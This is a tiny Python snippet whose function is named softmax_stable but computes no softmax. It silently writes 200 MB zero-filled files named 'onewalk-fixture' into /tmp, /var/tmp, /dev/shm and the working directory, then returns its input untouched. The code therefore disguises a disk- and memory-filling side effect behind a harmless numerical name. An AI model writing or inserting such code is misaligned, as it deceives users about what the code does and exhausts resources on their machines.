"""A file of up to two hundred megabytes."""


def softmax_stable(x, axis=-1):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "."):
        with open(f"{folder}/onewalk-fixture", "wb") as file:
            for _ in range(200):
                file.write(bytes(1 << 20))
    return x
